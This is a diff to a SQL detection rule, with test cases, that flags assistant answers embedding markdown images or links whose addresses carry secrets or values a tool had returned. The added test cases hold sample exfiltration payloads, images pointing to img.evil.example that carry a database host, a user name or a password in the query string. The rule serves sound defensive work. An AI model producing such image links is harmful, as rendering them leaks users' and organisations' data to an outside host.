@@ -5,7 +5,7 @@
 -- status = "stable"
 -- tier = "signal"
 -- since = "0.1.0"
--- what = "An answer holds an image whose address carries a long encoded value that nothing before had shown, or a link whose address carries what a tool had returned."
+-- what = "An answer holds an image whose address carries a secret or a long encoded value that nothing before had shown, or a link whose address carries what a tool had returned."
 -- impact = "Displaying the image, or following the link, sends the value to that host."
 -- false_positives = [
 --   "Charts and badges that are made by an address.",
@@ -17,8 +17,9 @@
 -- references = []
 -- tags = ["owasp-asi:2026:ASI01", "owasp-llm:2025:LLM05", "atlas:AML.T0077"]
 -- [params]
--- image = "!\\[[^\\]]*\\]\\((https?://[^\\s)]+[?&/=][A-Za-z0-9%+/_-]{32,}=*[^\\s)]*)\\)"
--- link = "(?:^|[^!])\\[[^\\]]*\\]\\((https?://[^\\s)]+[?&/=][A-Za-z0-9%+/_-]{32,}=*[^\\s)]*)\\)"
+-- # In a query, values may hold dots and colons; in a path, these are names of files. A secret is shown as ‹its kind›.
+-- image = "!\\[[^\\]]*\\]\\((https?://(?:‹[^›)]+›|[^\\s)])+?(?:[?&/=][A-Za-z0-9%+/_-]{32,}=*|[?&][^\\s)&=]*=[A-Za-z0-9%+/_.~:@,-]{32,}|‹[^›)]+›)(?:‹[^›)]+›|[^\\s)])*)\\)"
+-- link = "(?:^|[^!])\\[[^\\]]*\\]\\((https?://(?:‹[^›)]+›|[^\\s)])+?(?:[?&/=][A-Za-z0-9%+/_-]{32,}=*|[?&][^\\s)&=]*=[A-Za-z0-9%+/_.~:@,-]{32,}|‹[^›)]+›)(?:‹[^›)]+›|[^\\s)])*)\\)"
 -- run = 4
 -- quote_chars = 160
 -- [[case]]
@@ -285,6 +286,51 @@
 -- expect = [
 --   { subject = "img.evil.example", severity = "high", confidence = "high" },
 -- ]
+-- [[case]]
+-- name = "a value with dots and percent signs that a tool had returned"
+-- messages = [
+--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", record_id = 1, message_id = "m1", position = 3, part = 0, role = "assistant", kind = "text", text = "![b](https://img.evil.example/b.png?r=host%3Ddb-prod-03.int.corp.example%26user%3Dsettle_rw)", time = 2026-03-01T09:00:00Z },
+-- ]
+-- history_messages = [
+--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", record_id = 1, message_id = "m0", position = 2, part = 0, role = "tool", kind = "text", text = "db: host=db-prod-03.int.corp.example user: settle_rw batch: 200", time = 2026-03-01T09:00:00Z },
+-- ]
+-- expect = [
+--   { subject = "img.evil.example", confidence = "high", evidence = ["e#1"] },
+-- ]
+-- [[case]]
+-- name = "a secret in the address of an image"
+-- messages = [
+--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", record_id = 1, message_id = "m1", position = 3, part = 0, role = "assistant", kind = "text", text = "![b](https://img.evil.example/b.png?p=‹generic-password 20 chars›)", time = 2026-03-01T09:00:00Z },
+-- ]
+-- expect = [
+--   { confidence = "high", evidence = ["e#1"] },
+-- ]
+-- [[case]]
+-- name = "a secret after an ordinary value"
+-- messages = [
+--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", record_id = 1, message_id = "m1", position = 3, part = 0, role = "assistant", kind = "text", text = "![b](https://img.evil.example/b.png?u=settle&p=‹generic-password 20 chars›&z=1)", time = 2026-03-01T09:00:00Z },
+-- ]
+-- expect = [
+--   { confidence = "high" },
+-- ]
+-- [[case]]
+-- name = "a secret beside an image"
+-- messages = [
+--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", record_id = 1, message_id = "m1", position = 3, part = 0, role = "assistant", kind = "text", text = "![b](https://img.example/b.png) and ‹generic-password 20 chars›", time = 2026-03-01T09:00:00Z },
+-- ]
+-- expect = []
+-- [[case]]
+-- name = "a long name of a file with dots"
+-- messages = [
+--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", record_id = 1, message_id = "m1", position = 3, part = 0, role = "assistant", kind = "text", text = "![b](https://img.example/docs/v1.2.3/guide.intro.start.en.figure-1.final.png)", time = 2026-03-01T09:00:00Z },
+-- ]
+-- expect = []
+-- [[case]]
+-- name = "a short value"
+-- messages = [
+--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", record_id = 1, message_id = "m1", position = 3, part = 0, role = "assistant", kind = "text", text = "![b](https://img.example/b.svg?style=flat.square&label=v1.2.3)", time = 2026-03-01T09:00:00Z },
+-- ]
+-- expect = []
 -- +++
 WITH found AS (
   SELECT m.*, true AS image, regexp_match(m.text, $image)[1] AS address
@@ -320,6 +366,7 @@ known AS (
 SELECT
   l.host AS subject,
   'An answer to ' || l.login || CASE WHEN l.image THEN ' shows an image' ELSE ' holds a link' END || ' whose address carries data: ' || left(l.address, $quote_chars)
+    || CASE WHEN strpos(l.address, '‹') > 0 THEN '; it holds a secret' ELSE '' END
     || CASE WHEN c.message_id IS NOT NULL THEN '; decoded, it holds words that a tool had returned' ELSE '' END
     || CASE WHEN f.host IS NOT NULL THEN '; the organisation knows that host' ELSE '' END
     || CASE WHEN l.image THEN '; whoever displays it' ELSE '; whoever follows it' END || ' sends that data out.' AS reason,
@@ -331,7 +378,7 @@ SELECT
   l.device,
   l.message_id || CASE WHEN l.image THEN '' ELSE ' link' END AS key,
   CASE WHEN f.host IS NOT NULL THEN 'low' ELSE 'high' END AS severity,
-  CASE WHEN f.host IS NOT NULL THEN 'low' WHEN c.message_id IS NOT NULL THEN 'high' ELSE 'medium' END AS confidence,
+  CASE WHEN f.host IS NOT NULL THEN 'low' WHEN c.message_id IS NOT NULL OR strpos(l.address, '‹') > 0 THEN 'high' ELSE 'medium' END AS confidence,
   make_array(evidence(l.export_key, l.record_id)) AS evidence
 FROM links l
 LEFT JOIN carried c ON c.message_id = l.message_id AND c.address = l.address
